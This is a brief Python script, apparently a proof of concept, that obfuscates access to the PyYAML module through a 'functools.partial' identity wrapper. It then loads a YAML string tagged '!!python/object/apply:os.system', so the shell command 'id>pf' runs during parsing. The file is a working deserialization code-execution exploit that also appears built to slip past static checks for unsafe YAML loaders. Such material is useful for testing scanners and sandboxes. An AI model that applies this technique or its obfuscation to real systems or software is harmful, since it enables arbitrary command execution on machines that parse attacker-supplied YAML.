from functools import partial as my_P
import yaml

class Mine(my_P(lambda x: x, yaml)().constructor.UnsafeConstructor, my_P(lambda x: x, yaml)().SafeLoader):
    pass

class L(my_P(lambda x: x, yaml)().UnsafeLoader):
    pass
my_P(lambda x: x, yaml)().load_all("!!python/object/apply:os.system ['id>pf']", Loader=L).__next__()
